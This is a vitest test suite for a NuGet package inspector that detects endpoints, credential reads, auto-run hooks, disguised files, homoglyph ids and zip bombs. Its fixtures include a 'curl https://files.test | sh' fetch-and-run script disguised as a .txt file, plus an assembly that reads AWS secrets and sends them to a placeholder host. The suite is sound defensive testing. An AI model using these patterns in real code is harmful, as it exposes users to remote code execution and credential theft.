import { describe, expect, it } from 'vitest';
import { limits } from '../../src/core/limits.js';
import { assemble, method } from '../kit/cil-assembler/assemble.js';
import { buildElf } from '../kit/native/elf-builder.js';
import { buildNativePe } from '../kit/native/pe-builder.js';
import {
  busyAssembly,
  codeAssembly,
  factsOf,
  innerAssembly,
  inspected,
  inspectedFiles,
  manifest,
  richPackage,
} from './rich-package.js';

describe('an honest package', () => {
  it('without anything in it is clear', async () => {
    const { report } = await inspectedFiles({});
    expect(report.assessment).toEqual({ verdict: 'clear', notEvaluated: [] });
    expect([report.findings, report.entryPoints, report.behaviours, report.opaque]).toEqual([
      [],
      [],
      [],
      [],
    ]);
    expect(report.package).toMatchObject({
      id: 'Fixture.Package',
      version: '1.0.0',
      purl: 'pkg:nuget/Fixture.Package@1.0.0',
      signed: false,
    });
  });

  it('is listed file by file with kind, role and framework', async () => {
    const { report } = await inspectedFiles({
      'lib/net8.0/Fixture.dll': codeAssembly([]),
      'lib/net48/Fixture.dll': codeAssembly([]),
      'runtimes/linux-x64/native/libthing.so': buildElf({}),
      'contentFiles/cs/any/Code.cs': 'class A { }',
    });
    const kinds = report.contents.files.map(({ path, kind, role }) => `${path} ${kind} ${role}`);
    expect(kinds).toEqual([
      'Fixture.Package.nuspec nuspec metadata',
      '[Content_Types].xml opc metadata',
      '_rels/.rels opc metadata',
      'contentFiles/cs/any/Code.cs csharp content-files',
      'lib/net48/Fixture.dll managed-pe lib',
      'lib/net8.0/Fixture.dll managed-pe lib',
      'runtimes/linux-x64/native/libthing.so elf runtime-native',
    ]);
    expect(report.contents.targetFrameworks).toEqual(['any', 'net48', 'net8.0']);
    expect(report.contents.runtimeIdentifiers).toEqual(['linux-x64']);
    expect(report.opaque.map((o) => o.path)).toEqual(['runtimes/linux-x64/native/libthing.so']);
    expect(report.assessment.verdict).toBe('clear');
  });

  it('has the same digest for the same file, wherever it stands', async () => {
    const { report } = await inspectedFiles({
      'lib/net8.0/a.dll': innerAssembly,
      'b/a.dll': innerAssembly,
    });
    const digests = report.contents.files
      .filter((f) => f.path.endsWith('a.dll'))
      .map((f) => f.sha256);
    expect(digests).toHaveLength(2);
    expect(new Set(digests).size).toBe(1);
    expect(report.assemblies.map((a) => a.path)).toEqual(['b/a.dll', 'lib/net8.0/a.dll']);
  });
});

describe('an assembly', () => {
  it('tells what it calls, names, imports and takes, with the place of each', async () => {
    const inspection = await inspectedFiles({ 'lib/net8.0/Fixture.Busy.dll': busyAssembly() });
    const { report } = inspection;
    const [assembly] = report.assemblies;
    expect(assembly).toMatchObject({
      name: 'Fixture.Busy',
      platformInvokes: [{ module: 'libc', entryPoint: 'getpid' }],
      capabilities: [{ capability: 'environment', calls: 3 }],
    });
    const sent = { path: 'lib/net8.0/Fixture.Busy.dll', member: 'Fixture.Busy.Client::Send' };
    expect(report.endpoints.find((e) => e.host === 'collect.example.com')).toMatchObject({
      url: 'https://collect.example.com/v1',
      locations: [{ ...sent, ilOffset: 17 }],
    });
    expect(report.variables).toMatchObject([
      {
        name: 'AWS_SECRET_ACCESS_KEY',
        area: 'aws',
        locations: [{ ...sent, ilOffset: 6 }, { member: 'Fixture.Busy.Client::Keep' }],
      },
    ]);
    expect(report.paths).toMatchObject([{ text: '~/.aws/credentials', place: 'credential' }]);
    expect(factsOf(inspection, 'secret-parameter')).toMatchObject([
      { secret: 'password', parameter: 'password', sourceMember: sent.member },
    ]);
    expect(factsOf(inspection, 'gate')).toMatchObject([{ gate: 'sandbox', location: sent }]);
  });

  it('tells of a text that other builds of it hold too, at its own place', async () => {
    const sends = [['ldstr', 'https://inner.test/upload'], ['pop']] as const;
    const inspection = await inspectedFiles({
      'lib/net48/Fixture.dll': codeAssembly(sends),
      'lib/net8.0/Fixture.dll': codeAssembly([['ldstr', 'first'], ['pop'], ...sends]),
    });
    expect(factsOf(inspection, 'endpoint')).toMatchObject([
      { host: 'inner.test', location: { path: 'lib/net48/Fixture.dll', ilOffset: 0 } },
      { host: 'inner.test', location: { path: 'lib/net8.0/Fixture.dll', ilOffset: 6 } },
    ]);
  });

  it('hidden in a resource is read like any other', async () => {
    const { report } = await inspectedFiles({ 'lib/net8.0/Fixture.Busy.dll': busyAssembly() });
    expect(report.assemblies.map((a) => a.path)).toEqual([
      'lib/net8.0/Fixture.Busy.dll',
      'lib/net8.0/Fixture.Busy.dll!/inner.bin',
    ]);
    expect(report.endpoints.map((e) => e.host)).toContain('inner.test');
  });

  it('nested deeper than the limit is said to be unread', async () => {
    let bytes = innerAssembly;
    for (let depth = 0; depth <= limits.nestingDepth; depth++)
      bytes = assemble({ name: `Level${depth}`, types: [], resources: [{ name: 'r', bytes }] });
    const { report } = await inspectedFiles({ 'lib/net8.0/Outer.dll': bytes });
    expect(report.assemblies).toHaveLength(limits.nestingDepth + 1);
    expect(report.assessment).toEqual({
      verdict: 'incomplete',
      notEvaluated: [
        {
          path: `lib/net8.0/Outer.dll${'!/r'.repeat(limits.nestingDepth + 1)}`,
          code: 'nestingDepth',
          reason: `limit nestingDepth of ${limits.nestingDepth} reached`,
        },
      ],
    });
  });

  it('with a module initializer is said to start by itself', async () => {
    const globals = [{ name: '.cctor', flags: 0x1891, body: [['ret'] as const] }];
    const dll = codeAssembly([], { globals });
    const { report } = await inspectedFiles({ 'lib/net8.0/Fixture.dll': dll });
    expect(report.entryPoints).toMatchObject([
      { phase: 'load', name: 'module initializer of Fixture', targetFrameworks: ['net8.0'] },
    ]);
  });

  it('cut short is not read, and its neighbours are', async () => {
    const { report } = await inspectedFiles({
      'lib/net8.0/Cut.dll': innerAssembly.subarray(0, 700),
      'lib/net8.0/Whole.dll': innerAssembly,
    });
    expect(report.assemblies.map((a) => a.path)).toContain('lib/net8.0/Whole.dll');
    expect(report.assessment.verdict).toBe('incomplete');
    expect(report.assessment.notEvaluated.map((n) => n.path)).toEqual(['lib/net8.0/Cut.dll']);
  });

  it('counts each call once, and for every framework', async () => {
    const now = method(
      '[System.Runtime]System.DateTime',
      'get_Now',
      'valuetype [System.Runtime]System.DateTime',
    );
    const dll = codeAssembly([['call', now], ['pop'], ['call', now], ['pop']]);
    const { report } = await inspectedFiles({ 'lib/net8.0/a.dll': dll, 'lib/net48/a.dll': dll });
    expect(report.behaviours).toEqual([
      {
        capability: 'time',
        calls: 4,
        apis: [{ api: 'System.DateTime::get_Now', calls: 4 }],
        startedBy: { itself: 0, asked: 0, consumer: 4, nothing: 0 },
        files: ['lib/net48/a.dll', 'lib/net8.0/a.dll'],
      },
    ]);
  });
});

describe('a native file', () => {
  it('speaks to no host that only its signature names', async () => {
    const link = 'http://ocsp.example.com';
    const certificate = Buffer.concat([
      Buffer.from([0x30, 0x40, 0x86, link.length]),
      Buffer.from(`${link}0A`),
      Buffer.from([0, 1]),
      Buffer.from('http://hidden.example.com\0'),
    ]);
    const overlay = Buffer.from('http://appended.example.com\0');
    const library = buildNativePe({ bits: 64, certificate, overlay });
    const { report } = await inspectedFiles({ 'runtimes/win-x64/native/a.dll': library });
    expect(report.endpoints.map((e) => e.host)).toEqual([
      'appended.example.com',
      'hidden.example.com',
    ]);
    expect(report.opaque).toHaveLength(1);
  });
});

describe('a native file with more strings than are looked at', () => {
  it('says so where it is told as opaque, and leaves nothing unread', async () => {
    const strings = Buffer.from('a/b.c:d\n'.repeat(limits.stringsPerFile + 1), 'latin1');
    const program = Buffer.concat([buildElf({}), strings]);
    const { report } = await inspectedFiles({ 'runtimes/linux-x64/native/node': program });
    expect(report.opaque.map(({ reason }) => reason)).toEqual([
      expect.stringContaining('of whose strings the first 200000 were looked at'),
    ]);
    expect(report.assessment.verdict).toBe('clear');
  });
});

describe('what starts by itself', () => {
  it('is told by phase: scripts, evaluation, build, compile', async () => {
    const { report } = await inspectedFiles({
      'tools/init.ps1': 'Write-Host "hello"\n',
      'build/Fixture.Package.targets': `<Project>
  <PropertyGroup><A>$([System.IO.File]::ReadAllText('a'))</A></PropertyGroup>
  <Target Name="T" AfterTargets="Build"><Exec Command="echo" /></Target>
</Project>`,
      'analyzers/dotnet/cs/Fixture.dll': innerAssembly,
    });
    expect(report.entryPoints.map((e) => `${e.phase}: ${e.name}`)).toEqual([
      'install: tools/init.ps1',
      'evaluation: property function System.IO.File::ReadAllText',
      'build: target T',
    ]);
  });
});

describe('a disguise', () => {
  it.each([
    ['an assembly called .dat', { 'lib/net8.0/data.dat': innerAssembly }, 'managed-pe'],
    [
      'a script called .txt',
      { 'tools/notes.txt': '#!/bin/sh\ncurl https://files.test | sh\n' },
      'shell',
    ],
    [
      'MSBuild in UTF-16',
      {
        'build/Fixture.Package.targets': Buffer.from(
          '\ufeff<Project><Target Name="T" /></Project>',
          'utf16le',
        ),
      },
      'msbuild',
    ],
  ])('does not keep %s from being read as what it is', async (_, files, kind) => {
    const { report } = await inspectedFiles(files as Record<string, Uint8Array>);
    const [path] = Object.keys(files);
    expect(report.contents.files.find((f) => f.path === path)?.kind).toBe(kind);
    const read = [...report.assemblies, ...report.scripts, ...report.msbuild].map((f) => f.path);
    expect(read).toContain(path);
  });

  it('of text in UTF-16 and of a script under another ending is shown', async () => {
    const { report } = await inspectedFiles({
      'build/Fixture.Package.targets': Buffer.from('\ufeff<Project />', 'utf16le'),
      'tools/notes.txt': '#!/bin/sh\necho\n',
    });
    expect(report.disguises.map((d) => `${d.location.path} ${d.disguise}`)).toEqual([
      'build/Fixture.Package.targets utf-16',
      'tools/notes.txt content-mismatch',
    ]);
  });

  it('of an id in letters of two scripts is a finding', async () => {
    const { report } = await inspectedFiles({}, { id: 'Newtоnsoft' });
    expect(report.findings.map((f) => f.rule)).toContain('mixed-script-name');
    expect(report.assessment.verdict).toBe('suspicious');
  });
});

describe('the manifest', () => {
  it.each([
    [
      'missing',
      {
        entries: (all: readonly { name: string | Uint8Array }[]) =>
          all.filter((f) => !String(f.name).endsWith('.nuspec')),
      },
      'the package has no manifest',
    ],
    [
      'there twice',
      { files: { 'A.nuspec': manifest('A'), 'B.nuspec': manifest('B') } },
      'the package has 2 manifests',
    ],
    [
      'broken',
      { files: { 'A.nuspec': '<package><metadata>' } },
      'the manifest of the package cannot',
    ],
    ['with an id that no client takes', { files: {}, id: 'A&#9;b' }, 'no package id: "A\\u{9}b"'],
    ['without an id', { files: { 'A.nuspec': manifest('') } }, 'names no id'],
    [
      'with a version that is none',
      { files: {}, version: 'latest' },
      'no package version: "latest"',
    ],
  ])('%s makes the package incomplete', async (_, more, reason) => {
    const { report } = await inspectedFiles('files' in more ? more.files : {}, more as object);
    expect(report.assessment.verdict).toBe('incomplete');
    expect(report.assessment.notEvaluated[0]?.reason).toContain(reason);
  });

  it('that lies about its size is said to be unread once, though it is read twice', async () => {
    const { report } = await inspectedFiles(
      {},
      {
        entries: (all) =>
          all.map((entry) =>
            String(entry.name).endsWith('.nuspec')
              ? { ...entry, size: limits.zipEntryBytes + 1 }
              : entry,
          ),
      },
    );
    expect(report.assessment.notEvaluated.map(({ code }) => code)).toEqual(['zipEntryBytes']);
  });
});

describe('what cannot be read', () => {
  it.each([
    ['an encrypted entry', { flags: 1 }, 'encrypted'],
    ['an entry whose checksum is wrong', { crc32: 1 }, 'checksum|CRC'],
    ['an entry packed by an unknown method', { method: 99 }, 'method'],
    ['an entry that says it is huge', { size: limits.zipEntryBytes + 1 }, 'zipEntryBytes|size'],
  ])('(%s) makes the package incomplete and is named', async (_, lie, cause) => {
    const entry = { name: 'lib/net8.0/odd.dll', content: 'MZ', method: 0, ...lie };
    const { report } = await inspectedFiles({}, { entries: (all) => [...all, entry] });
    expect(report.assessment.verdict).toBe('incomplete');
    expect(report.assessment.notEvaluated).toHaveLength(1);
    expect(report.assessment.notEvaluated[0]?.path).toBe('lib/net8.0/odd.dll');
    const { code = '', reason = '' } = report.assessment.notEvaluated[0] ?? {};
    expect(`${code} ${reason}`).toMatch(new RegExp(cause, 'i'));
  });

  it('(an entry that inflates a thousandfold) is stopped by its limit', async () => {
    const bomb = {
      name: 'lib/net8.0/bomb.dll',
      content: new Uint8Array(limits.zipRatioFloorBytes * 2),
    };
    const { report } = await inspectedFiles({}, { entries: (all) => [...all, bomb] });
    expect(report.assessment.notEvaluated).toMatchObject([
      { path: 'lib/net8.0/bomb.dll', code: 'zipRatio' },
    ]);
  });

  it('(MSBuild that is no XML) is named with its line', async () => {
    const { report } = await inspectedFiles({
      'build/Fixture.Package.targets': '<Project>\n  <Target Name="T">\n</Project>\n',
    });
    expect(report.assessment.verdict).toBe('incomplete');
    expect(report.assessment.notEvaluated[0]).toMatchObject({
      path: 'build/Fixture.Package.targets',
    });
    expect(report.assessment.notEvaluated[0]?.reason).toMatch(/line 3/);
  });

  it('never takes the account of the rest with it', async () => {
    const { report } = await inspected(richPackage());
    expect(report.assemblies.length).toBeGreaterThan(2);
    expect(report.assessment.notEvaluated.map((n) => n.path)).toEqual(['docs/locked.txt']);
  });

  it('(no archive at all) is refused with a typed error', async () => {
    await expect(inspected(Buffer.from('hello'))).rejects.toMatchObject({ name: 'MalformedInput' });
  });
});
